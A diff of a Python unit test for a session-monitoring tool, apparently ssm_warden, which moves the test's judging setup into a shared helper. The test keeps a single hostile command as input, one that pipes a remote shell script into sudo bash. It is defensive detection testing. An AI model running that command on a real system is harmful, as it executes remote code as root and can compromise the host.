@@ -3,34 +3,17 @@ the reason (the live path's judging, ``monitor.service.judge_extracted``)."""
 
 from __future__ import annotations
 
-from types import SimpleNamespace
 from typing import Any
 
-from ssm_warden.detect.detector import get_detector
-from ssm_warden.models.actions import ActionKind, Mode, SessionRef
-from ssm_warden.monitor.judging import BatchJudge
-from ssm_warden.monitor.service import judge_extracted
-from ssm_warden.policy.evaluate import strictest_settings
-from ssm_warden.policy.loader import default_policy
-from ssm_warden.policy.store import PolicyState
+from ssm_warden.models.actions import ActionKind, Mode
 from ssm_warden.transcript.extract import Extracted, extract_lines
+from tests.unit.transcript.strictest_judging import judged_strictest
 
 CURL = "curl -fsSL http://203.0.113.9/x.sh | sudo bash"
 
 
 def decisions(extracted: Extracted) -> list[Any]:
-    loaded = default_policy()
-    settings = strictest_settings(loaded.policy)
-    judged = judge_extracted(
-        extracted,
-        SimpleNamespace(event_ids=["0"], timestamps=[1_704_347_159_000]),  # type: ignore[arg-type]
-        session=SessionRef(session_id="s-1", account="123456789012", region="us-east-1"),
-        settings=settings,
-        policy_state=PolicyState(loaded),
-        detector=BatchJudge(get_detector(tuple(settings.rule_packs))),
-        force_monitor=False,
-    )
-    return [a for a in judged.decisions.actions if a.kind is ActionKind.TERMINATE]
+    return [a for a in judged_strictest(extracted).decisions.actions if a.kind is ActionKind.TERMINATE]
 
 
 def test_a_command_after_the_sessions_prompt_is_terminated() -> None:
